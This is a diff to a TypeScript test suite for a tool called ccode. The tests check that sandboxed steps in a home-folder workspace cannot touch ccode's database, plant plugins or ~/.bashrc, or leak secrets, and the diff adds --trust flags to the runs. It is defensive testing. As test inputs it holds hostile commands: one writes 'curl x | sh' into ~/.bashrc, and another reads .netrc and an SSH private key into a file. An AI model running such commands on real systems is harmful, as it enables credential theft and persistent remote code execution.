@@ -15,7 +15,11 @@ function task(sb: Sandbox, name: string, ...steps: string[]): string {
   return sb.file(name, `version: 1\nsteps:\n${body}\n`)
 }
 
-/** HOME is the workspace and ccode keeps its data and configuration in their default places there. */
+/**
+ * HOME is the workspace and ccode keeps its data and configuration in their default places there. Only a
+ * trusted task may take the home folder as its workspace (an untrusted one is refused, exit 2), so the runs
+ * below pass --trust: the sandbox hides and protects the same paths either way.
+ */
 function homeWorkspace(): { sb: Sandbox; env: Record<string, string> } {
   const sb = sandbox()
   for (const name of ["CCODE_HOME", "CCODE_DB", "XDG_CONFIG_HOME", "XDG_DATA_HOME"]) delete sb.env[name]
@@ -29,11 +33,12 @@ describe.skipIf(!HAS_BWRAP)("ccode's own files in a sandboxed step", () => {
   test("a home-folder workspace: the data folder (ccode.db, trust rows) is neither readable nor writable", async () => {
     const { sb, env } = homeWorkspace()
     task(sb, "first.yaml", "echo one > one.txt")
-    expect((await ccode(sb, ["run", "first.yaml", "--yes", "--sandbox", "required"], { env })).code).toBe(0)
+    expect((await ccode(sb, ["run", "first.yaml", "--yes", "--sandbox", "required"], { env })).code).toBe(2)
+    expect((await ccode(sb, ["run", "first.yaml", "--yes", "--sandbox", "required", "--trust"], { env })).code).toBe(0)
     const data = join(sb.work, ".local", "share", "ccode")
     expect(existsSync(join(data, "ccode.db"))).toBe(true)
     task(sb, "peek.yaml", `wc -c < ${data}/ccode.db; ls ${data}/snapshots | wc -l; echo forged > ${data}/planted; echo done`)
-    const peek = await ccode(sb, ["run", "peek.yaml", "--yes", "--json", "--sandbox", "required"], { env })
+    const peek = await ccode(sb, ["run", "peek.yaml", "--yes", "--json", "--sandbox", "required", "--trust"], { env })
     const text = output(peek.stdout)
     // an empty read-only folder: nothing to read, nothing to write
     expect(text).toContain("ccode.db: No such file")
@@ -63,7 +68,7 @@ describe.skipIf(!HAS_BWRAP)("protected home paths that do not exist yet", () => 
   test("a step that makes ~/.config/ccode (user plugins) or ~/.bashrc is blocked and the path moved aside", async () => {
     const { sb, env } = homeWorkspace()
     task(sb, "plant.yaml", "mkdir -p ~/.config/ccode/plugins && echo 'export default {}' > ~/.config/ccode/plugins/evil.ts && echo 'curl x | sh' > ~/.bashrc")
-    const run = await ccode(sb, ["run", "plant.yaml", "--yes", "--json", "--sandbox", "required"], { env })
+    const run = await ccode(sb, ["run", "plant.yaml", "--yes", "--json", "--sandbox", "required", "--trust"], { env })
     expect(run.code).not.toBe(0)
     expect(run.stdout).toContain("SANDBOX_BLOCKED")
     expect(existsSync(join(sb.work, ".config", "ccode"))).toBe(false)
@@ -89,10 +94,10 @@ describe.skipIf(!HAS_BWRAP)("a preview of a home-folder workspace", () => {
     const env = { ...sb.env, HOME: sb.work }
     sb.file(".netrc", "machine y login u password FAKESECRET-home-netrc\n")
     sb.file(".ssh/id_rsa", "FAKESECRET-idrsa\n")
-    // what the step read is in the file it adds: the preview's diff shows it
+    // what the step read is in the file it adds: the preview's diff shows it (a home-folder workspace needs --trust)
     sb.file("r.sh", "cat .netrc .ssh/id_rsa | rev > leak.txt\n")
     sb.file("t.yaml", "version: 1\nsteps:\n  - id: p\n    preview: true\n    run: sh r.sh\n")
-    const run = await ccode(sb, ["run", "t.yaml", "--json", "--sandbox", "required"], { env })
+    const run = await ccode(sb, ["run", "t.yaml", "--json", "--sandbox", "required", "--trust"], { env })
     expect(run.stdout).toContain("leak.txt")
     expect(run.stdout).not.toContain("cterten-emoh-TERCESEKAF")
     expect(run.stdout).not.toContain("asrdi-TERCESEKAF")
